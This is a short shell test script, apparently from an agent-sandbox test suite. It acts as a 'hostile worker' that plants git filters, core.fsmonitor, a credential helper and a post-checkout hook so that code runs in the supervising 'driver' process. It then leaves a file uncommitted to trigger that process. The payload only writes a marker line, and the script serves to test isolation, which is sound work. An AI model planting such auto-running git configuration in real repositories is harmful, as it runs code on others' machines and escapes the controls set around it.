#!/bin/sh
# i21-gitconfig.sh: issue 21 §5's hostile worker. It plants in the
# repository what git runs on its own: a clean/smudge filter (named by a
# .gitattributes it commits, and by info/attributes), core.fsmonitor, a
# credential helper, and a post-checkout hook. Each writes a line to
# $TARGET naming who ran it: "agent" for the agent's own git (WHO=agent),
# "driver" for anyone else's. It then finishes and leaves a file
# uncommitted, so the driver's leftover commit runs git add -A. Each try's
# outcome goes to work/gitconfig-result.txt.
case $0 in */*) . "${0%/*}/lib.sh" ;; *) . ./lib.sh ;; esac # no dirname process
check_contract
export WHO=agent
common=$(git rev-parse --path-format=absolute --git-common-dir)
mkdir -p work
out=work/gitconfig-result.txt
try() { name=$1; shift; if "$@" >/dev/null 2>&1; then echo "$name ok"; else echo "$name denied"; fi >>"$out"; }
ran="echo \"\${WHO:-driver}\" >>'$TARGET'"
try filter git config filter.evil.clean "$ran; cat"
try smudge git config filter.evil.smudge "$ran; cat"
try fsmonitor git config core.fsmonitor "$ran; false"
try credential git config credential.helper "!$ran"
try hook sh -c "printf '#!/bin/sh\n%s\n' \"$ran\" >'$common/hooks/post-checkout' && chmod +x '$common/hooks/post-checkout'"
try attributes sh -c "mkdir -p '$common/info' && echo '* filter=evil' >>'$common/info/attributes'"
echo '* filter=evil' >.gitattributes
git add .gitattributes
do_work
finish
echo leftover >leftover.txt
